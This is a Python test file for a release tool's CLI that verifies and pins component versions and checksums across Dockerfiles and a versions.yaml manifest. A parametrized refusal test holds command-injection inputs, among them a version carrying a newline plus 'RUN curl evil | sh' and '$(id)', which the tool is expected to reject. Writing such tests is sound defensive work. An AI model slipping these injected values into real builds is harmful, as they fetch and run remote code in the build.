"""The CLI on a temporary copy of the repository: verify, pin, and refusals that change nothing."""

from __future__ import annotations

import difflib
from pathlib import Path

import pytest

from release.cli import main

REPO = Path(__file__).resolve().parents[3]

pytestmark = pytest.mark.integration


def snapshot(root: Path) -> dict[str, bytes]:
    return {
        p.relative_to(root).as_posix(): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()
    }


def changed_lines(before: dict[str, bytes],
                  after: dict[str, bytes]) -> dict[str, list[tuple[str | None, str | None]]]:
    """Per changed file, the (old, new) pairs of lines that differ: a line replaced in place, or
    (None, new) for an inserted one and (old, None) for a removed one."""
    result: dict[str, list[tuple[str | None, str | None]]] = {}
    for name, old in before.items():
        new = after[name]
        if old == new:
            continue
        old_lines = old.decode().splitlines()
        new_lines = new.decode().splitlines()
        pairs: list[tuple[str | None, str | None]] = []
        matcher = difflib.SequenceMatcher(a=old_lines, b=new_lines, autojunk=False)
        for tag, i1, i2, j1, j2 in matcher.get_opcodes():
            if tag == "equal":
                continue
            both = min(i2 - i1, j2 - j1) if tag == "replace" else 0  # replaced in place
            pairs += zip(old_lines[i1:i1 + both], new_lines[j1:j1 + both], strict=True)
            pairs += [(line, None) for line in old_lines[i1 + both:i2]]
            pairs += [(None, line) for line in new_lines[j1 + both:j2]]
        result[name] = pairs
    return result


def test_verify_passes_on_the_committed_tree(tree: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["verify", "--root", str(tree)]) == 0
    err = capsys.readouterr().err
    assert err.startswith("verify: all ")
    assert "no unmanaged pins" in err


def test_verify_reports_drift_with_file_and_line(
    tree: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    dockerfile = tree / "images/kamailio/Dockerfile"
    text = dockerfile.read_text()
    assert "ARG KAMAILIO_VERSION=6.1.4\n" in text
    dockerfile.write_text(text.replace("ARG KAMAILIO_VERSION=6.1.4\n", "ARG KAMAILIO_VERSION=6.1.3\n"))
    line = text.splitlines().index("ARG KAMAILIO_VERSION=6.1.4") + 1

    assert main(["verify", "--root", str(tree)]) == 1
    err = capsys.readouterr().err.splitlines()
    assert err[0] == (
        f"images/kamailio/Dockerfile:{line}: kamailio: dockerfile-arg KAMAILIO_VERSION: "
        "expected '6.1.4', found '6.1.3'"
    )
    assert err[-1].startswith("verify: 1 problem (")


def test_verify_reports_unmanaged_pins_and_unpinned_bases(
    tree: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    dockerfile = tree / "images/redis/Dockerfile"
    dockerfile.write_text(
        dockerfile.read_text() + "\nFROM busybox:latest AS extra\nARG JQ_VERSION=1.7.1\n"
    )
    assert main(["verify", "--root", str(tree), "--json"]) == 1
    out = capsys.readouterr().out
    assert '"kind": "unmanaged"' in out
    assert "ARG JQ_VERSION=1.7.1 looks like a version pin but no component" in out
    assert "FROM busybox:latest: use an explicit tag, never latest" in out
    assert "FROM busybox:latest: no digest" in out


def test_pin_changes_exactly_the_expected_lines(tree: Path,
                                                capsys: pytest.CaptureFixture[str]) -> None:
    before = snapshot(tree)
    sha = "ab" * 32
    assert main(["pin", "--root", str(tree), "kamailio", "6.1.5", "--checksum", f"sha256:{sha}"]) == 0
    after = snapshot(tree)
    assert changed_lines(before, after) == {
        "images/kamailio/Dockerfile": [
            ("ARG KAMAILIO_VERSION=6.1.4", "ARG KAMAILIO_VERSION=6.1.5"),
            (
                "ARG KAMAILIO_SHA256=290624b6624edc230af0fc458fb7e481e64b893be7cb5084398e587942992e0a",
                f"ARG KAMAILIO_SHA256={sha}",
            ),
        ],
        "versions.yaml": [
            ("    version: 6.1.4", "    version: 6.1.5"),
            (
                "      sha256: 290624b6624edc230af0fc458fb7e481e64b893be7cb5084398e587942992e0a",
                f"      sha256: {sha}",
            ),
            # typed in, never checked against upstream: verify says so until it is confirmed
            (None, "    unconfirmed: [sha256]  # typed in with pin --checksum"),
        ],
    }
    assert main(["verify", "--root", str(tree)]) == 0
    assert f"kamailio: sha256 {sha} is unconfirmed" in capsys.readouterr().err


def test_a_typed_in_value_that_cannot_be_marked_is_refused_and_nothing_is_written(
    tree: Path, capsys: pytest.CaptureFixture[str],
) -> None:
    manifest = tree / "versions.yaml"
    text = manifest.read_text(encoding="utf-8")
    mark = "    unconfirmed: [sha256]  # recorded offline; see the header\n"
    manifest.write_text(text.replace(mark, "    unconfirmed:\n      - sha256\n", 1),
                        encoding="utf-8")
    line = manifest.read_text(encoding="utf-8").splitlines().index("    unconfirmed:") + 1
    before = snapshot(tree)
    assert main(["pin", "--root", str(tree), "rtpengine", "13.5.1.26",
                 "--checksum", "sha256:" + "ab" * 32]) == 2
    assert f"versions.yaml:{line}: components.rtpengine.unconfirmed: write it as a flow list" \
        in capsys.readouterr().err
    assert snapshot(tree) == before


def test_pin_image_component_rewrites_every_from(tree: Path) -> None:
    before = snapshot(tree)
    digest = "sha256:" + "cd" * 32
    assert main(["pin", "--root", str(tree), "debian", "20260901", "--checksum", digest]) == 0
    changes = changed_lines(before, snapshot(tree))
    # Ten image Dockerfiles and the histogramQuantile helper's build FROM debian.
    assert len([f for f in changes if f.startswith("images/")]) == 11
    assert changes["versions.yaml"] == [
        ('    version: "20260803"', '    version: "20260901"'),
        (
            "      digest: sha256:3a39a0592364683e6bab97937b72cad5a8fa6dcbbee90edb3bb48c7f8e94f258",
            f"      digest: {digest}",
        ),
        (None, "    unconfirmed: [digest]  # typed in with pin --checksum"),
    ]
    for pairs in (v for k, v in changes.items() if k.startswith("images/")):
        for old, new in pairs:  # replaced in place, none added or removed
            assert old is not None
            assert new is not None
            assert old.startswith("FROM debian:trixie-20260803-slim@sha256:3a39a059")
            assert new.startswith(f"FROM debian:trixie-20260901-slim@{digest}")
    assert main(["verify", "--root", str(tree)]) == 0


def test_pin_two_part_version_stays_a_string(tree: Path) -> None:
    assert main(["pin", "--root", str(tree), "squid", "7.10", "--checksum", "sha256:" + "0" * 64]) == 0
    assert '    version: "7.10"\n' in (tree / "versions.yaml").read_text()
    assert main(["verify", "--root", str(tree)]) == 0


def test_pin_dry_run_prints_diff_and_writes_nothing(
    tree: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    before = snapshot(tree)
    code = main(["pin", "--root", str(tree), "postgresql", "17.12", "--checksum",
                 "sha256:" + "1" * 64, "--dry-run"])
    assert code == 0
    assert snapshot(tree) == before
    out = capsys.readouterr().out
    assert "--- a/images/postgres/Dockerfile\n+++ b/images/postgres/Dockerfile\n" in out
    assert "\n-ARG POSTGRES_VERSION=17.11\n" in out
    assert "\n+ARG POSTGRES_VERSION=17.12\n" in out
    assert '-    version: "17.11"\n+    version: "17.12"\n' in out


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["kamailio", "6.1.5\nRUN curl evil | sh"], "contains characters that are not allowed"),
        (["kamailio", '6.1.5"'], "contains characters that are not allowed"),
        (["kamailio", "$(id)"], "contains characters that are not allowed"),
        (["kamailio", "6.1.5 6.1.6"], "contains characters that are not allowed"),
        (["kamailio", "6.1;5"], "contains characters that are not allowed"),
        (["kamailio", "6.1"], "is not a version of this component"),
        (["kamailio", "6.1.3", "--checksum", "sha256:" + "a" * 64], "pass --allow-downgrade"),
        (["kamailio", "6.1.5", "--checksum", "md5:abc"], "algorithm 'md5' is not supported"),
        (["kamailio", "6.1.5", "--checksum", "sha256:xyz"], "must be 64 hex digits"),
        (["kamailo", "6.1.5"], "no component 'kamailo' in versions.yaml; did you mean 'kamailio'?"),
        (["redis", "8.0.0"], "redis: 8.0.0 is outside its policy (>=7.4,<7.5); pass "
         "--beyond-policy to pin it anyway (and consider changing the policy)"),
    ],
    ids=["newline", "quote", "dollar", "space", "semicolon", "pattern", "downgrade", "algo",
         "bad-hex", "unknown", "off-policy"],
)
def test_refused_pin_leaves_every_file_byte_identical(
    tree: Path, capsys: pytest.CaptureFixture[str], argv: list[str], message: str
) -> None:
    before = snapshot(tree)
    assert main(["pin", "--root", str(tree), *argv]) == 2
    assert snapshot(tree) == before
    err = capsys.readouterr().err
    assert err.startswith("error: ")
    assert message in err
    assert "Traceback" not in err


def test_pin_with_a_broken_pin_location_writes_nothing(
    tree: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    dockerfile = tree / "images/janus/Dockerfile"
    dockerfile.write_text(dockerfile.read_text().replace("ARG JANUS_SHA256=", "ARG JANUS_SUM="))
    before = snapshot(tree)
    assert main(["pin", "--root", str(tree), "janus", "1.4.2", "--checksum",
                 "sha256:" + "e" * 64]) == 2
    assert snapshot(tree) == before
    assert "images/janus/Dockerfile" in capsys.readouterr().err


def test_downgrade_allowed_explicitly(tree: Path) -> None:
    assert main(["pin", "--root", str(tree), "janus", "1.4.0", "--checksum", "sha256:" + "f" * 64,
                 "--allow-downgrade"]) == 0
    assert "ARG JANUS_VERSION=1.4.0\n" in (tree / "images/janus/Dockerfile").read_text()


def test_pin_same_version_is_a_no_op(tree: Path, capsys: pytest.CaptureFixture[str]) -> None:
    before = snapshot(tree)
    assert main(["pin", "--root", str(tree), "asterisk", "22.10.1"]) == 0
    assert snapshot(tree) == before
    assert "already pinned" in capsys.readouterr().err


def test_malformed_manifest_exits_2_with_located_problems(
    tree: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    manifest = tree / "versions.yaml"
    manifest.write_text(manifest.read_text().replace("    policy:\n", "    polcy:\n", 1))
    before = snapshot(tree)
    assert main(["pin", "--root", str(tree), "kamailio", "6.1.5"]) == 2
    assert snapshot(tree) == before
    err = capsys.readouterr().err
    assert "error: versions.yaml has " in err
    assert ": components.debian.polcy: unknown key; did you mean 'policy'?" in err


def test_bad_usage_exits_2(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["pin"]) == 2
    assert main(["frobnicate"]) == 2
    assert "Traceback" not in capsys.readouterr().err


def test_an_unwritable_step_summary_is_a_warning_not_a_failure(
    tree: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(tree / "versions.yaml" / "summary.md"))
    replay = REPO / "tests" / "data" / "replay"
    assert main(["check", "--root", str(tree), "--replay", str(replay), "--no-cache"]) == 0
    err = capsys.readouterr().err
    assert "warning: cannot append to GITHUB_STEP_SUMMARY" in err
    assert "Traceback" not in err
